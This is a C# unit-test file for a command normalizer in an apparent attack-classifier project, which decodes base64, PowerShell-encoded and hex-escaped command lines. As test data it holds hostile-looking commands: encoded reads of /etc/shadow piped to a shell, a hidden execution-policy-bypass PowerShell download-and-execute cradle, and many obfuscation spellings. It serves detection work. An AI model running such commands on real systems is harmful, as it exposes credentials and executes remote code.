using System.Text;
using AttackClassifier.Normalization;
using AttackClassifier.Text;

namespace AttackClassifier.Tests.Normalization;

public class DecodingTests
{
    private static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Utf16B64(string text) => Convert.ToBase64String(Encoding.Unicode.GetBytes(text));

    private static DecodedText[] Decode(string line, CommandNormalizerOptions? options = null) => CommandNormalizer.Normalize(line, options).Decoded.ToArray();

    private static void AssertDecoded(string line, DecodedKind kind, string expected)
    {
        DecodedText d = Assert.Single(Decode(line));
        Assert.Equal((kind, 1, expected, -1), (d.Kind, d.Depth, d.Text, d.ParentIndex));
    }

    [Theory]
    [InlineData("echo {0} | base64 -d | sh")]
    [InlineData("echo -n \"{0}\" | base64 --decode > /tmp/x; sh /tmp/x")]
    [InlineData("echo '{0}'|base64 -D|bash")]                        // macOS spelling
    [InlineData("/bin/echo {0} | /usr/bin/base64 -di")]              // paths and a flag cluster
    [InlineData("printf '%s' {0} | base64 --dec")]                   // getopt abbreviation
    [InlineData("echo {0} |& base64 -d")]
    [InlineData("base64 -d <<< {0} | sh")]
    [InlineData("base64 --decode <<<\"{0}\"")]
    [InlineData("base64 <<< {0} -d")]                                // the flag after the payload
    [InlineData("bash -c \"$(echo {0} | base64 -d)\"")]              // inside $( ) inside quotes
    [InlineData("sh -c `echo {0}|base64 -d`")]
    [InlineData("bash <<< $(base64 -d <<< {0})")]
    [InlineData("bash -c \"echo {0} | base64 -d | bash\"")]            // echo later in its simple command
    [InlineData("echo {0} | sudo base64 -d")]
    [InlineData("bash -c 'base64 -d <<< {0}'")]
    public void Base64_payloads_fed_to_base64_decode_are_decoded(string template)
    {
        string line = string.Format(template, B64("cat /etc/shadow"));
        AssertDecoded(line, DecodedKind.Base64, "cat /etc/shadow");
    }

    [Theory]
    [InlineData("echo {0} | base64")]                 // encoding, not decoding
    [InlineData("echo {0} | base64 -w0")]
    [InlineData("echo {0} | gzip -d")]
    [InlineData("cat {0} | base64 -d")]               // not echo/printf: a file name
    [InlineData("echo {0} ; base64 -d")]              // not a pipe
    [InlineData("echo {0} | | base64 -d")]
    [InlineData("echo | base64 -d")]                  // nothing echoed
    [InlineData("base64 -d {0}")]                     // a file argument
    [InlineData("echo {0}")]
    public void Base64_without_a_decoding_pipeline_is_left_alone(string template) =>
        Assert.Empty(Decode(string.Format(template, B64("cat /etc/shadow"))));

    [Theory]
    [InlineData("Y2F0IC9ldGMvc2hhZG93")]          // valid, no padding needed
    [InlineData("aWQ")]                           // unpadded 'id': tolerated like padding-lenient decoders
    public void Base64_accepts_exact_and_unpadded_payloads(string payload) =>
        Assert.Single(Decode($"echo {payload} | base64 -d"));

    [Theory]
    [InlineData("Y2F0IC9ldGMvc2hhZG93!")]         // a character outside the alphabet
    [InlineData("Y2F0-IC9ldGMvc2hhZG93")]         // URL-safe alphabet is not what base64 -d reads
    [InlineData("Y2F0I")]                         // length mod 4 = 1
    [InlineData("aWQ=aWQ=")]                      // padding in the middle
    [InlineData("aWQ===")]                        // three padding characters
    [InlineData("aWQ==")]                         // padding that leaves the length wrong
    [InlineData("AAECAwQFBgcICQ==")]              // bytes 0..9: control characters, not text
    [InlineData("/w==")]                          // 0xFF: invalid UTF-8
    [InlineData("ICAg")]                          // three spaces: white space only
    public void Invalid_base64_or_non_text_is_left_without_a_decoded_text(string payload) =>
        Assert.Empty(Decode($"echo {payload} | base64 -d"));

    [Fact]
    public void The_control_character_rule_is_ten_percent()
    {
        // 1 control character in 10 is allowed, 2 in 10 are not; tabs and newlines are not counted.
        Assert.Single(Decode($"echo {B64("abcdefghi\u0001")} | base64 -d"));
        Assert.Empty(Decode($"echo {B64("abcdefgh\u0001\u0001")} | base64 -d"));
        Assert.Single(Decode($"echo {B64("a\t\n\r\t\n\r\t\n\r")} | base64 -d"));
        Assert.Equal("id", Assert.Single(Decode($"echo {Convert.ToBase64String([0xEF, 0xBB, 0xBF, (byte)'i', (byte)'d'])} | base64 -d")).Text);   // BOM dropped
    }

    [Theory]
    [InlineData("powershell -enc {0}")]
    [InlineData("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {0}")]
    [InlineData("powershell -ENCODEDCOMMAND {0}")]
    [InlineData("powershell -e {0}")]
    [InlineData("powershell -ec {0}")]
    [InlineData("powershell -en {0}")]
    [InlineData("powershell -encodedc {0}")]
    [InlineData("powershell /enc {0}")]
    [InlineData("pwsh --enc {0}")]
    [InlineData("powershell \u2013enc {0}")]                                   // en dash
    [InlineData("powershell \u2014ec {0}")]                                    // em dash
    [InlineData("powershell -enc \"{0}\"")]
    [InlineData("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc {0}")]
    [InlineData("\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -ec {0}")]
    [InlineData("cmd /c \"powershell -e {0}\"")]                              // inside a quoted cmd argument
    [InlineData("Start-Process powershell -ArgumentList \"-enc {0}\"")]
    public void PowerShell_encoded_commands_are_decoded_for_every_spelling_of_the_parameter(string template)
    {
        string line = string.Format(template, Utf16B64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"));
        AssertDecoded(line, DecodedKind.PowerShellEncoded, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
    }

    [Theory]
    [InlineData("powershell -ex {0}")]                       // -ExecutionPolicy, not a prefix of -EncodedCommand
    [InlineData("powershell -encodedcommandx {0}")]          // longer than the parameter
    [InlineData("powershell -EncodedArguments {0}")]
    [InlineData("Out-File -Encoding {0}")]                   // no PowerShell host
    [InlineData("foo -enc {0}")]
    [InlineData("powershell -enc; echo {0}")]                // the payload is in another command
    [InlineData("powershell enc {0}")]                       // no parameter prefix
    public void Other_parameters_and_commands_are_not_encoded_commands(string template) =>
        Assert.Empty(Decode(string.Format(template, Utf16B64("whoami"))));

    [Theory]
    [InlineData("powershell -enc $EncodedCommand")]                       // a variable, not Base64
    [InlineData("powershell -enc d2hvYW1p!")]
    [InlineData("powershell -enc d2hv")]                                  // 3 bytes: odd UTF-16 length
    [InlineData("powershell -enc ANg=")]                                  // U+D800 alone: an unpaired surrogate
    [InlineData("powershell -enc AAABAAIAAwAEAA==")]                      // U+0000..U+0004: control characters
    public void Invalid_encoded_commands_are_left_without_a_decoded_text(string line) => Assert.Empty(Decode(line));

    [Theory]
    [InlineData("printf '\\x63\\x61\\x74 /etc/passwd'", "cat /etc/passwd")]
    [InlineData("echo -e \"\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68\" | sh", "/bin/sh")]
    [InlineData("$'\\x69\\x64'", "id")]
    [InlineData("printf \\x69\\x64", "id")]                                          // unquoted word
    [InlineData("echo -e '\\x41\\x9'", "A\t")]                                       // one hex digit is enough
    [InlineData("printf '\\x68\\x69\\n\\tx\\\\y\\q'", "hi\n\tx\\y\\q")]              // other escapes: \n \t \\ kept, \q as written
    [InlineData("printf '\\xc3\\xa9\\xc3\\xa9'", "éé")]                              // bytes are UTF-8
    [InlineData("python -c \"exec('\\x69\\x6d\\x70\\x6f\\x72\\x74 os')\"", "exec('import os')")]
    public void Strings_with_hex_escapes_are_decoded(string line, string expected) => AssertDecoded(line, DecodedKind.HexEscape, expected);

    [Theory]
    [InlineData("dir C:\\x64\\tools")]                 // one escape: a path, not an encoding
    [InlineData("printf '\\xff\\xfe'")]                // invalid UTF-8
    [InlineData("printf '\\x00\\x01\\x02\\x41'")]      // mostly control characters
    [InlineData("printf '\\\\x41\\\\x42'")]            // escaped backslashes: no escapes
    [InlineData("printf '\\xg1\\xz2'")]                // \x without a hex digit
    public void Strings_without_two_valid_hex_escapes_are_left_alone(string line) => Assert.Empty(Decode(line));

    [Fact]
    public void Decoded_texts_are_split_and_decoded_again_breadth_first_up_to_the_depth_limit()
    {
        // depth 4: "id; whoami"; depth 3 decodes to a pipeline carrying it; and so on outwards.
        string d4 = "id; whoami";
        string d3 = $"echo {B64(d4)} | base64 -d | sh";
        string d2 = $"powershell -enc {Utf16B64(d3)}";
        string d1 = $"echo {B64(d2)} | base64 -d | sh";
        string line = $"echo {B64(d1)} | base64 -d | sh; printf '\\x6c\\x73'";

        DecodedText[] decoded = Decode(line);
        Assert.Equal(
            new[] { (DecodedKind.Base64, 1, d1, -1, 0), (DecodedKind.HexEscape, 1, "ls", -1, 3), (DecodedKind.Base64, 2, d2, 0, 0), (DecodedKind.PowerShellEncoded, 3, d3, 2, 0) },
            decoded.Select(d => (d.Kind, d.Depth, d.Text, d.ParentIndex, d.StatementIndex)));
        // The depth-3 text is split (three statements) but its payload is not decoded at the default MaxDepth = 3.
        Assert.Equal(new[] { "echo " + B64(d4), "base64 -d", "sh" }, decoded[3].Statements.Select(s => s.Text));

        Assert.Equal(d4, Decode(line, new CommandNormalizerOptions { MaxDepth = 4 })[^1].Text);
        Assert.Equal(new[] { d1, "ls" }, Decode(line, new CommandNormalizerOptions { MaxDepth = 1 }).Select(d => d.Text));
        Assert.Empty(Decode(line, new CommandNormalizerOptions { MaxDepth = 0 }));
    }

    [Fact]
    public void The_decoded_size_cap_drops_whole_texts_that_do_not_fit()
    {
        string line = $"echo {B64("0123456789")} | base64 -d; echo {B64("abcdefghij")} | base64 -d";
        Assert.Equal(new[] { "0123456789", "abcdefghij" }, Decode(line, new CommandNormalizerOptions { MaxDecodedChars = 20 }).Select(d => d.Text));
        Assert.Equal(new[] { "0123456789" }, Decode(line, new CommandNormalizerOptions { MaxDecodedChars = 19 }).Select(d => d.Text));
        Assert.Empty(Decode(line, new CommandNormalizerOptions { MaxDecodedChars = 9 }));
        // A later, smaller payload still fits after a large one was dropped.
        string mixed = $"echo {B64(new string('x', 30))} | base64 -d; echo {B64("id")} | base64 -d";
        Assert.Equal(new[] { "id" }, Decode(mixed, new CommandNormalizerOptions { MaxDecodedChars = 10 }).Select(d => d.Text));
    }

    [Fact]
    public void The_default_cap_is_64_KiB_of_decoded_text_per_line()
    {
        string fits = new('a', 65536), over = new('a', 65537);
        Assert.Equal(65536, Assert.Single(Decode($"powershell -enc {Utf16B64(fits)}")).Text.Length);
        Assert.Empty(Decode($"powershell -enc {Utf16B64(over)}"));
        Assert.Equal(65536, new CommandNormalizerOptions().MaxDecodedChars);
        Assert.Equal(3, new CommandNormalizerOptions().MaxDepth);
    }

    [Fact]
    public void Segments_are_the_cleaned_line_its_statements_and_each_decoded_text_with_its_statements()
    {
        string line = $"\"C:\\Windows\\System32\\cmd.exe\" /c echo {B64("id; 'C:\\x.exe'")} | base64 -d & whoami";
        NormalizedCommand n = CommandNormalizer.Normalize(line);
        Assert.Equal(line, n.Original);
        Assert.Equal(
            new[]
            {
                $"C:\\Windows\\System32\\cmd.exe /c echo {B64("id; 'C:\\x.exe'")} | base64 -d & whoami",
                $"C:\\Windows\\System32\\cmd.exe /c echo {B64("id; 'C:\\x.exe'")}", "base64 -d", "whoami",
                "id; C:\\x.exe", "id", "C:\\x.exe",
            },
            n.Segments);
        // Statements themselves keep the quotes: they index the original.
        Assert.StartsWith("\"C:\\Windows", n.Statements[0].Text);

        // One statement, nothing decoded: the cleaned line only.
        Assert.Equal(new[] { "ls -la" }, CommandNormalizer.Normalize("ls -la").Segments);
        Assert.Equal(new[] { "" }, CommandNormalizer.Normalize("").Segments);
    }

    [Theory]
    [InlineData("\"C:\\Windows\\System32\\cmd.exe\" /c x", "C:\\Windows\\System32\\cmd.exe /c x")]
    [InlineData("'C:\\x.exe' -a", "C:\\x.exe -a")]
    [InlineData("run \"C:/Temp/a b.exe\"", "run C:/Temp/a b.exe")]
    [InlineData("\"\\\\srv\\share\\a.exe\"", "\\\\srv\\share\\a.exe")]
    [InlineData("\"%APPDATA%\\x.exe\" y", "%APPDATA%\\x.exe y")]
    [InlineData("echo \"hello\" 'C:'", "echo \"hello\" 'C:'")]                   // not Windows paths
    [InlineData("\"C:\\unclosed", "\"C:\\unclosed")]
    [InlineData("\"C:\\a\nb\"", "\"C:\\a\nb\"")]                                 // quotes pair within a line only
    [InlineData("\"C:\\a\" \"b\" \"C:\\c\"", "C:\\a \"b\" C:\\c")]
    public void Quotes_around_Windows_paths_are_removed_in_segments(string text, string expected) =>
        Assert.Equal(expected, WindowsPathQuotes.Strip(text));

    [Fact]
    public void The_cleaned_segment_gives_the_path_token_without_its_closing_quote()
    {
        string line = "\"C:\\Windows\\System32\\cmd.exe\" /c whoami";
        Assert.Contains("c:\\windows\\system32\\cmd.exe\"", CommandLineTokenizer.Tokenize(line));
        Assert.Contains("c:\\windows\\system32\\cmd.exe", CommandLineTokenizer.Tokenize(CommandNormalizer.Normalize(line).Segments[0]));
    }

    [Fact]
    public void Segments_feed_the_segmented_vectorizer_decoded_n_grams_count_and_no_bigram_spans_two_statements()
    {
        string[] lines = [$"echo {B64("cat /etc/shadow")} | base64 -d | sh", "ls -la; whoami"];
        var documents = lines.Select(l => CommandNormalizer.Normalize(l).Segments).ToArray();
        var v = TfidfVectorizer.FitSegmented(documents);
        Assert.Contains("cat /etc/shadow", v.Terms);     // from the decoded text
        Assert.Contains("-la whoami", v.Terms);          // from the whole line, which is a segment too
        Assert.Contains("whoami", v.Terms);
        // The statements "ls -la" and "whoami" are segments of their own: their unigrams count twice, the bigram across them once.
        var columns = new int[v.FeatureCount];
        var values = new double[v.FeatureCount];
        var noNorm = TfidfVectorizer.FitSegmented(documents, new TfidfOptions { Norm = TfidfNorm.None, SmoothIdf = false });
        int nnz = noNorm.TransformSegmented(documents[1], columns, values);
        var x = Enumerable.Range(0, nnz).ToDictionary(e => noNorm.Terms[columns[e]], e => values[e] / noNorm.Idf[columns[e]]);   // raw counts
        Assert.Equal(2.0, x["whoami"], 12);
        Assert.Equal(1.0, x["-la whoami"], 12);
        Assert.Equal(2.0, x["ls -la"], 12);
    }

    [Fact]
    public void Bad_arguments_are_specific_errors()
    {
        Assert.Throws<ArgumentNullException>(() => CommandNormalizer.Normalize(null!));
        Assert.Contains("MaxDepth", Assert.Throws<ArgumentException>(() => CommandNormalizer.Normalize("x", new CommandNormalizerOptions { MaxDepth = -1 })).Message);
        Assert.Contains("MaxDepth", Assert.Throws<ArgumentException>(() => CommandNormalizer.Normalize("x", new CommandNormalizerOptions { MaxDepth = 17 })).Message);
        Assert.Contains("MaxDecodedChars", Assert.Throws<ArgumentException>(() => CommandNormalizer.Normalize("x", new CommandNormalizerOptions { MaxDecodedChars = -1 })).Message);
    }
}
